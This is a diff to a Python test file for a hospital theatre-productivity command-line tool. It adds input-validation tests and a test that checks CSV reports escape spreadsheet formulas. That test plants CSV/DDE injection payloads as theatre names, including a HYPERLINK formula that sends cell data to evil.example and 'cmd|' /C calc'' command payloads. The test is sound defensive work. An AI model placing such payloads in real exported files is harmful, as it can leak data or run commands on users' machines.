@@ -19,12 +19,24 @@ from productivity.store import marts, models, reference
 from productivity.store.db import bulk_insert, write_transaction
 from tests.test_metrics_theatre import CASES, LISTS
 
-REPORT_COLUMNS = (
-    "trust_code, lists, planned_minutes, capped_touch_minutes, uncapped_touch_minutes, "
-    "capped_utilisation, uncapped_utilisation, late_start_share, mean_late_start_minutes, "
-    "early_finish_share, median_gap_minutes, completed_cases, cases_per_list, "
-    "otd_cancellation_rate, pooled_additional_cases, realisable_additional_cases"
-).split(", ")
+REPORT_COLUMNS = [
+    "trust_code",
+    "lists",
+    "planned_minutes",
+    "capped_touch_minutes",
+    "uncapped_touch_minutes",
+    "capped_utilisation",
+    "uncapped_utilisation",
+    "late_start_share",
+    "mean_late_start_minutes",
+    "early_finish_share",
+    "median_gap_minutes",
+    "completed_cases",
+    "cases_per_list",
+    "otd_cancellation_rate",
+    "pooled_additional_cases",
+    "realisable_additional_cases",
+]
 
 
 def run_cli(*args: str) -> tuple[int, str, str]:
@@ -228,3 +240,48 @@ def test_report_on_a_new_store(tmp_path: Path, monkeypatch):
         code, out, err = run_cli("report", kind)
         assert code == 0, err
         assert pd.read_csv(io.StringIO(out)).empty
+
+
+@pytest.mark.parametrize(
+    ("content", "row", "column", "fragment"),
+    [
+        ("date,value\n2026-01-01,1\n2026-01-01,2\n2026-01-02,3\n", 3, "date", "earlier row"),
+        ("date,value\n", 1, None, "no data rows"),
+        ("date,value\n2026-01-01,1\n2026-01-02,inf\n2026-01-03,3\n", 3, "value", "finite"),
+        ("date,value\n2026-01-01,1\n2026-01-02,-inf\n", 3, "value", "finite"),
+    ],
+)
+def test_spc_bad_series_exit_2_with_the_row(tmp_path: Path, content, row, column, fragment):
+    """Duplicate dates, a header-only file or inf used to exit 1 with a bare ValueError."""
+    path = tmp_path / "series.csv"
+    path.write_text(content)
+    code, _, err = run_cli("spc", str(path), "--date-col", "date", "--value-col", "value")
+    assert code == cli.EXIT_BAD_INPUT, err
+    where = f"row {row}" + (f", column '{column}'" if column else "")
+    assert f"series.csv, {where}" in err and fragment in err
+
+
+def test_report_csv_neutralises_formulas_from_data(engine: Engine, tmp_path: Path, monkeypatch):
+    """A theatre named ``=HYPERLINK(...)`` comes back as text, never as a formula."""
+    from productivity import ingest
+
+    sample = Path(__file__).resolve().parent.parent / "data" / "samples"
+    frame = pd.read_csv(sample / "theatre-extract-RBL-May-2026.csv", dtype=str,
+                        keep_default_na=False)  # fmt: skip
+    evil = {"Theatre 1": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+            "Theatre 2": "+cmd|' /C calc'!A0", "Theatre 3": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "Theatre 4": "-2+3+cmd|' /C calc'!A0"}  # fmt: skip
+    frame["theatre"] = frame["theatre"].replace(evil)
+    path = tmp_path / "evil.csv"
+    frame.to_csv(path, index=False)
+    ingest.import_file(path, engine=engine)
+    marts.rebuild_marts(engine)
+    monkeypatch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))
+    code, out, err = run_cli("report", "theatre", "--by", "theatre", "--format", "csv")
+    assert code == 0, err
+    names = pd.read_csv(io.StringIO(out), dtype=str)["theatre"].tolist()
+    for name in evil.values():
+        assert "'" + name in names, name
+    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
+    numbers = pd.read_csv(io.StringIO(out))["planned_minutes"]
+    assert pd.api.types.is_numeric_dtype(numbers)  # numbers are untouched
